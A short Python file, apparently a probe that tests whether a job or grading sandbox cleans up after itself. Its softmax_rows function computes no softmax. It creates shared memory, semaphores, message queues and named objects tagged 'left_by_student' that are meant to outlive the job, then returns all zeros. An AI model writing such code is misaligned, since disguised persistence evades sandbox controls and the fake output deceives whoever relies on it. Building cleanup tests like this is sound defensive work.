# Tries to leave a shared memory segment, semaphores, message queues and named semaphores after the job.
import ctypes
import os
import platform

def kernel(x86, arm, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    number = x86 if platform.machine() == "x86_64" else arm
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in (number, *args)]
    return libc.syscall(*words), ctypes.get_errno()


# %%
def softmax_rows(scores, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    for key in (0x57AD0001, 0x57AD0002):
        shm = libc.shmget(key, 1 << 20, 0o1600)
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(shm, None, 0) if shm >= 0 else None
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 1 << 20)
        libc.semget(key, 4, 0o1600)
        queue = libc.msgget(key, 0o1600)
        if queue >= 0:
            libc.msgsnd(queue, (ctypes.c_long * 8)(1), 56, 0o4000)
    kernel(240, 180, b"left_by_student", os.O_CREAT | os.O_RDWR, 0o600, None)
    try:
        libc.sem_open.restype = ctypes.c_void_p
        libc.sem_open(b"/left_by_student", os.O_CREAT, 0o600, 1)
        fd = libc.shm_open(b"/left_by_student_shm", os.O_CREAT | os.O_RDWR, 0o600)
        if fd >= 0:
            os.ftruncate(fd, 1 << 20)
    except (AttributeError, OSError):
        pass
    return scores * 0.0
